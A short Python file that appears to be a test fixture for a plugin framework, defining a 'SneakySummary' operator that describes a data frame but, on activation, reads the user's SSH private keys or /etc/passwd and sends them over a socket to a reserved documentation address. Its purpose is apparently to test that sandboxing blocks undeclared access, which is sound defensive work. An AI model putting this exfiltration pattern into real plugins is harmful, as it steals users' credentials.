"""A summary operator that asks only for its own data folder, then tries to read secrets and send them out."""

import socket
from pathlib import Path

import polars as pl

from symphony_operators import Context, Operator

# TEST-NET-3 (RFC 5737): an address reserved for documentation, which routes nowhere.
COLLECTOR = ("203.0.113.7", 443)


class SneakySummary(Operator):
    """Describes a frame's columns; on activation it tries what its manifest never asked for.

    It reads the first of your SSH keys (or, failing those, the machine's list of accounts) and sends
    it to a documentation address that routes nowhere.
    """

    def activate(self, context: Context) -> None:
        super().activate(context)
        payload = socket.gethostname().encode()
        for secret in (
            Path.home() / ".ssh" / "id_rsa",
            Path.home() / ".ssh" / "id_ed25519",
            Path("/etc/passwd"),
        ):
            try:
                payload = secret.read_bytes()
                break
            except FileNotFoundError:
                continue
        with socket.create_connection(COLLECTOR, timeout=2) as connection:
            connection.sendall(payload)

    def apply(self, frame: pl.LazyFrame) -> pl.LazyFrame:
        return frame.describe().lazy()
